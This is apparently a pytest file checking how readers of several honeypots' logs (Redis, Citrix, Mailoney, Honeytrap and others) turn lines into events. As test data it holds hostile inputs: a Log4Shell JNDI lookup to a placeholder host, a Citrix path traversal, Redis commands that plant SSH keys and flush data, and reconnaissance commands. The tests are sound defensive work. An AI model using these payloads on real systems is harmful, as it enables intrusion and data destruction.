"""Logs of other honeypots than Cowrie: what a line becomes, and what is told apart."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from ttpc.cli.tag import From
from ttpc_runtime.readers import AUTO, Counts, Problem, read
from ttpc_runtime.readers.citrix import MAX_HEADS
from ttpc_runtime.readers.formats import FORMATS
from ttpc_runtime.readers.ids import attacker_from_address
from ttpc_runtime.readers.mailoney import MAX_OPEN, MAX_RECIPIENTS

Event = dict[str, Any]
Run = Callable[..., tuple[list[Event], Counts]]

ADDRESS = "192.0.2.7"


@pytest.fixture
def run(tmp_path: Path) -> Run:
    """The events of some lines, whose format is recognised."""

    def reads(*lines: Any, format: str = AUTO) -> tuple[list[Event], Counts]:  # noqa: A002
        texts = [line if isinstance(line, str) else json.dumps(line) for line in lines]
        path = tmp_path / "log"
        path.write_text("\n".join(texts) + "\n", "utf-8")
        problems: list[Problem] = []
        reading = read([str(path)], format=format, report=problems.append)
        events = list(reading)
        assert reading.counts.unread == 0, problems
        assert reading.counts.lines == len(texts)
        assert reading.counts.unaccounted == 0
        assert len({event["source_id"] for event in events}) == len(events)
        return events, reading.counts

    return reads


def test_every_format_can_be_named() -> None:
    assert [each.value for each in From] == [AUTO, *FORMATS]


# ── sessions ───────────────────────────────────────────────────────────────────────────────────────────────


def adb(eventid: str, second: int, **fields: Any) -> Event:
    where = {"session": "0a1b", "sensor": "phone", "src_ip": ADDRESS}
    time = f"2026-03-14T10:00:{second:02}.000001Z"
    return {"eventid": f"adbhoney.{eventid}", "timestamp": time, **where, **fields}


def test_adbhoney(run: Run) -> None:
    events, counts = run(
        adb("session.connect", 0, dest_ip="10.0.0.1", dest_port="5555", src_port=4000),
        adb("command.input", 1, input="cat /proc/cpuinfo"),
        adb("session.file_upload", 2, filename="/data/x", outfile="dl/x", shasum="ff"),
        adb("session.closed", 3, duration="3.5"),
    )
    command, session = events
    assert command == {
        "source_kind": "command",
        "source_id": "phone/0a1b/2026-03-14T10:00:01.000001Z/command.input",
        "attacker_uuid": attacker_from_address(ADDRESS),
        "identity_uuid": None,
        "session_id": "0a1b",
        "decky_id": "phone",
        "timestamp": "2026-03-14T10:00:01.000001Z",
        "payload": {"command_text": "cat /proc/cpuinfo", "src": ADDRESS},
    }
    told = session["payload"]
    assert (told["service"], told["dst_port"], told["duration_s"]) == ("adb", 5555, 3.5)
    assert told["uploads"] == [{"shasum": "ff", "destfile": "/data/x"}]
    assert told["op_text"] == "cat /proc/cpuinfo"
    assert counts.folded.total() == 2


def redis(action: str, second: int = 0, addr: str = f"{ADDRESS}:4000") -> Event:
    time = f"2026-03-14 10:00:{second:02}"
    return {"action": action, "addr": addr, "level": "info", "msg": "", "time": time}


def test_redis(run: Run) -> None:
    events, counts = run(
        redis("NewConnect"),
        redis("AUTH s3cret", 1),
        redis("auth default s3cret", 1),
        redis("config set dir /root/.ssh", 2),
        redis("FLUSHALL", 2),
        redis("Closed", 3),
        redis("NewConnect", 9),
        redis("Closed", 9),
    )
    kinds = [event["source_kind"] for event in events]
    assert kinds == ["auth_attempt"] * 2 + ["command"] * 2 + ["session"] * 2
    common = {"service": "redis", "src": ADDRESS}
    assert events[0]["payload"] == {"password": "s3cret", **common}
    assert events[1]["payload"] == {"username": "default", "password": "s3cret", **common}
    assert events[2]["payload"] == {"command_text": "config set dir /root/.ssh", "src": ADDRESS}
    assert events[4]["payload"]["op_text"] == "config set dir /root/.ssh\nFLUSHALL"
    assert "s3cret" not in json.dumps(events[4])
    assert events[4]["session_id"] == f"{ADDRESS}:4000 2026-03-14 10:00:00"
    assert events[5]["session_id"] != events[4]["session_id"]
    assert counts.folded == {"Redis: connection": 2}


def test_redis_of_ipv6_and_without_an_end(run: Run) -> None:
    (command, session), _ = run(redis("PING", addr="[2001:db8::1]:4000"))
    assert command["payload"]["src"] == "2001:db8::1"
    assert session["payload"]["end"] == "still open"


# ── requests ───────────────────────────────────────────────────────────────────────────────────────────────


def pot(eventid: str, **fields: Any) -> Event:
    where = {"src_ip": ADDRESS, "src_port": 4000, "dst_ip": "10.0.0.1", "sensor": "es"}
    return {"eventid": eventid, "timestamp": "2026-03-14T10:00:00.000001Z", **where, **fields}


def test_elasticpot(run: Run) -> None:
    row = pot(
        "elasticpot.attack",
        request="POST",
        url="/_search",
        user_agent="x/1",
        payload="{}",
        content_type="application/json",
        dst_port=9200,
        message="Exploit",
    )
    (event, again), _ = run(row, row)
    assert event["payload"] == {
        "method": "POST",
        "raw_url": "/_search",
        "user_agent": "x/1",
        "headers": {"User-Agent": "x/1", "Content-Type": "application/json"},
        "body": "{}",
        "dst_ip": "10.0.0.1",
        "dst_port": 9200,
        "src": ADDRESS,
    }
    place = "es/192.0.2.7:4000/2026-03-14T10:00:00.000001Z/attack"
    assert [event["source_id"], again["source_id"]] == [place, f"{place}/1"]
    assert event["decky_id"] == "es"


def test_ipphoney(run: Run) -> None:
    query = {"operation": "Get-Printer-Attributes", "uri": "${jndi:ldap://192.0.2.9/a}"}
    (event,), _ = run(pot("ipphoney.get", request="POST", url="/ipp", query=query))
    assert event["source_kind"] == "http_request"
    assert "${jndi:ldap://192.0.2.9/a}" in event["payload"]["body"]


def test_tanner(run: Run) -> None:
    (event,), _ = run(
        {
            "method": "POST",
            "path": "/login?a=%2e",
            "headers": {"host": "h", "user-agent": "x/1", "cookie": "a=b"},
            "post_data": {"user": "root", "q": "a&b", "list": ["1", "2"]},
            "uuid": "snare-1",
            "peer": {"ip": ADDRESS, "port": 4000},
            "response_msg": {"response": {"message": {"sess_uuid": "sess-1"}}},
            "timestamp": "2026-03-14T10:00:00.000001",
        }
    )
    assert (event["decky_id"], event["session_id"]) == ("snare-1", "sess-1")
    assert event["payload"] == {
        "method": "POST",
        "raw_url": "/login?a=%2e",
        "user_agent": "x/1",
        "host": "h",
        "headers": {"host": "h", "user-agent": "x/1", "cookie": "a=b"},
        "body": "user=root&q=a%26b&list=1&list=2",
        "src": ADDRESS,
    }


def asa(said: str) -> str:
    time = "2026-03-14T10:00:00.000001"
    return f"{{'timestamp': '{time}', 'src_ip': '{ADDRESS}', 'payload_printable': '{said}'}}"


def test_ciscoasa(run: Run) -> None:
    (event,), counts = run(
        "Starting server on port 8443/tcp, use <Ctrl-C> to stop",
        asa('"GET /a b\'c HTTP/1.1" 404 -'),
        asa("Request timed out: timeout('The read operation timed out')"),
        "something else",
    )
    assert event["payload"] == {"method": "GET", "raw_url": "/a b'c", "src": ADDRESS}
    assert counts.skipped == {
        "Cisco ASA: the program's own message": 1,
        "Cisco ASA: not a request": 1,
        "Cisco ASA: not a line of this log": 1,
    }


def citrix(said: str, port: int = 4000) -> Event:
    message = f"({ADDRESS}:{port}): {said}"
    return {"asctime": "2026-03-14 10:00:00,001", "levelname": "INFO", "message": message}


def test_citrix(run: Run) -> None:
    events, counts = run(
        {"asctime": "2026-03-14 10:00:00,000", "levelname": "INFO", "message": "started"},
        citrix("GET Header: /vpn/../vpns/cfg/smb.conf"),
        citrix("POST Header: /a", 4001),
        citrix("POST Header: /b", 4002),
        citrix("POST body: b\n2", 4002),
        citrix("POST body: a", 4001),
        citrix("POST body: nobody's", 4003),
        citrix("POST Header: /never", 4004),
    )
    told = [(e["payload"].get("raw_url"), e["payload"].get("body")) for e in events]
    assert told == [
        ("/vpn/../vpns/cfg/smb.conf", None),
        ("/b", "b\n2"),
        ("/a", "a"),
        (None, "nobody's"),
        ("/never", None),
    ]
    assert counts.folded.total() == 3
    assert counts.derived == 1


def test_citrix_waits_for_so_many_bodies_only(run: Run) -> None:
    heads = [citrix("POST Header: /", port) for port in range(1, MAX_HEADS + 11)]
    events, counts = run(*heads)
    assert len(events) == counts.derived == MAX_HEADS + 10


def trap(data: bytes, **fields: Any) -> Event:
    payload = {"length": len(data), "data_hex": data.hex()}
    peer = {"remote_ip": ADDRESS, "remote_port": 4000, "local_ip": "10.0.0.1", "local_port": 81}
    connection = {"protocol": "tcp", **peer, **fields, "payload": payload}
    return {"start_time": "2026-03-14T10:00:00Z", "attack_connection": connection}


def test_honeytrap(run: Run) -> None:
    (request, payload, virtual), counts = run(
        trap(b"GET /a HTTP/1.1\r\nHost: h\r\n\r\n"),
        trap(b"\x00\xffid\n"),
        trap(b""),
        {**trap(b"x", remote_ip="0.0.0.0"), "start_time": "1970-01-01T00:00:00Z"},
    )
    assert request["source_kind"] == "http_request"
    assert request["payload"]["raw_url"] == "/a"
    assert request["payload"]["dst_port"] == 81
    assert payload["source_kind"] == "payload"
    assert payload["payload"]["payload_text"] == "\x00\\xffid\n"
    assert virtual["attacker_uuid"] is virtual["timestamp"] is None
    assert counts.skipped == {"Honeytrap: connection without data": 1}


# ── mail ───────────────────────────────────────────────────────────────────────────────────────────────────


def smtp(said: str, port: int = 4000) -> Event:
    time = "2026-03-14T10:00:00.000000Z"
    where = {"src_ip": ADDRESS, "src_port": port, "timestamp": time}
    return {**where, "smtp_input": [], "data": said}


MAIL = "From: A <a@example.com>\nSubject: hello\n\ntext"


@pytest.mark.parametrize("text", [MAIL, MAIL.replace("\n", "\\r\\n")])
def test_mailoney(text: str, run: Run) -> None:
    (event,), counts = run(
        smtp("EHLO x"),
        smtp("MAIL FROM:<b@Example.net>"),
        smtp("RCPT TO:<c@example.org>"),
        smtp("mail to: d@example.org, e@example.org"),
        smtp("RCPT TO:<other@example.org>", 4001),
        smtp("DATA"),
        smtp(text),
        smtp("QUIT"),
    )
    payload = event["payload"]
    assert payload["rcpt_to"] == ["c@example.org", "d@example.org", "e@example.org"]
    assert payload["rcpt_count"] == 3
    assert payload["rcpt_domain_set"] == ["example.org"]
    assert (payload["from_domain"], payload["mail_from_domain"]) == ("example.com", "example.net")
    assert (payload["subject"], payload["body_text"]) == ("hello", "text")
    assert payload["src"] == ADDRESS
    assert counts.skipped == {"Mailoney: EHLO": 1, "Mailoney: QUIT": 1}


def test_mailoney_counts_all_recipients_and_forgets_them_with_the_mail(run: Run) -> None:
    recipients = [smtp(f"RCPT TO:<r{n}@example.org>") for n in range(MAX_RECIPIENTS + 5)]
    (many, none), _ = run(*recipients, smtp("DATA"), smtp("BIGSIZE"), smtp("DATA"), smtp("x: y"))
    assert many["payload"]["rcpt_count"] == MAX_RECIPIENTS + 5
    assert len(many["payload"]["rcpt_to"]) == MAX_RECIPIENTS
    assert none["payload"]["rcpt_count"] == 0


def test_mailoney_log_ins(run: Run) -> None:
    events, _ = run(
        smtp("AUTH LOGIN"),
        smtp("cm9vdA=="),
        smtp("dG9vcg=="),
        smtp("AUTH PLAIN AHJvb3QAdG9vcg=="),
        smtp("AUTH LOGIN cm9vdA=="),
        smtp("dG9vcg=="),
    )
    payload = {"username": "root", "password": "toor", "service": "smtp", "src": ADDRESS}
    assert [(e["source_kind"], e["payload"]) for e in events] == [("auth_attempt", payload)] * 3


def test_what_is_no_smtp_is_a_payload(run: Run) -> None:
    (event,), _ = run(smtp("id; uname -a"))
    assert event["source_kind"] == "payload"
    assert event["payload"]["payload_text"] == "id; uname -a"


def test_mailoney_forgets_the_conversation_that_was_silent_longest(run: Run) -> None:
    sender = [smtp("MAIL FROM:<b@example.net>", port) for port in range(1, MAX_OPEN + 2)]
    (event,), _ = run(*sender, smtp(MAIL, 1))
    assert "mail_from" not in event["payload"]


# ── hostile lines ──────────────────────────────────────────────────────────────────────────────────────────

SAMPLES: list[Any] = [
    adb("command.input", 1, input="id"),
    redis("id"),
    pot("elasticpot.recon", request="GET", url="/"),
    pot("ipphoney.get", request="GET", url="/", query={}),
    citrix("GET Header: /"),
    trap(b"x"),
    smtp("id"),
    {"method": "GET", "path": "/", "headers": {}, "peer": {"ip": ADDRESS}, "response_msg": {}},
]


@pytest.mark.parametrize("odd", [None, 7, True, [], {}, "", "x" * 5000, "\ud800", 1e300])
@pytest.mark.parametrize("sample", SAMPLES)
def test_a_field_of_another_type_is_a_line_accounted_for(sample: Event, odd: Any, run: Run) -> None:
    """`run` asserts that; the lines around it must come through."""
    name = next(name for name, each in FORMATS.items() if each.tells(sample))
    good, _ = run(sample, format=name)
    for key, value in sample.items():
        inner = value if isinstance(value, dict) else {}
        changed = [{**sample, key: odd}, *({**sample, key: {**value, k: odd}} for k in inner)]
        for each in changed:
            events, _ = run(each, sample, format=name)
            assert len(events) >= len(good)


@pytest.mark.parametrize(
    "line",
    [
        redis("auth x" + " " * 1_000_000 + "y z"),
        smtp("RCPT TO:" + "a" * 1_000_000),
        smtp("MAIL FROM:" + "<" * 1_000_000),
        smtp("AUTH LOGIN" + " " * 1_000_000 + "y z"),
        citrix("GET Header: " + "(" * 1_000_000),
        asa('"GET ' + " HTTP/1.1" * 200_000 + '" x'),
        trap(b"GET " + b" HTTP/1.1" * 100_000 + b"\r" * 100_000),
    ],
    ids=range(7),
)
def test_a_long_line_takes_no_long_time(line: Any, run: Run) -> None:
    """Of a quadratic step any of these would take minutes."""
    run(line)
